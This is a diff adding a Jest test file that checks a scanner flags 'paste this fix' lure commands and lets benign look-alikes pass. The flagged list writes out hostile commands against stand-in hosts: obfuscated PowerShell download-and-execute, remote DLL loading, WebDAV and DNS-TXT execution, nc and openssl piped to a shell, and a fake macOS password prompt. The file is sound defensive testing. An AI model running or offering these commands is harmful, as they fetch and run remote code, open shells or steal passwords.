@@ -1,0 +1,40 @@
+import { describe, expect, it } from '@jest/globals'
+import { scanText } from './testing/test-rules.ts'
+
+const lead = (command: string) => `The fix for this error:\n\n\`\`\`\n${command}\n\`\`\`\n`
+
+describe('a command to paste', () => {
+  it.each([
+    'powershell "$r=Invoke-WebRequest -Uri \'http://203.0.113.9/x.txt\'; Invoke-Expression $r.Content"',
+    'pwsh -c "& ([scriptblock]::Create((irm https://fix.example/run)))"',
+    "&(gcm i*x)(irm 'check.example/1')",
+    "sal a iex; a (iwr 'https://check.example/1').Content",
+    "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://203.0.113.9/a.dll'))",
+    'cmd /c "net use Z: \\\\203.0.113.9@80\\dav & Z:\\run.bat"',
+    'cmd /c pushd \\\\files.example@SSL\\dav && start v.exe',
+    'explorer.exe \\\\files.example\\share\\invoice.lnk',
+    'wscript.exe "\\\\files.example\\dav\\inv.vbs"',
+    'hh.exe http://files.example/a.chm',
+    'for /f "delims=" %i in (\'nslookup -q=txt x.example\') do @cmd /c %i',
+    'cmstp /s /ni C:\\Users\\Public\\a.inf',
+    'osascript -e \'display dialog "Enter your password" default answer "" with hidden answer\'',
+    'dig +short txt x.example @203.0.113.9 | sh',
+    'nc 203.0.113.9 443 | bash',
+    'openssl s_client -quiet -connect 203.0.113.9:443 | sh',
+  ])('calls a moderator or is hidden: %s', (command) => {
+    expect(scanText(command).verdict).not.toBe('allow')
+  })
+
+  it.each([
+    '$r = Invoke-RestMethod https://api.example/v1/items; $r.items.Count',
+    'net use Z: \\\\fileserver\\projects /persistent:yes',
+    'pushd \\\\fileserver\\builds && dir',
+    'explorer.exe \\\\fileserver\\projects',
+    'dig +short txt example.com | sort',
+    'openssl s_client -connect example.com:443 | openssl x509 -noout -dates',
+    'nc -l 9000 | tar x',
+    'for /f "tokens=2" %i in (\'nslookup host.example\') do @echo %i',
+  ])('is public where it runs nothing from elsewhere: %s', (command) => {
+    expect(scanText(lead(command)).verdict).toBe('allow')
+  })
+})
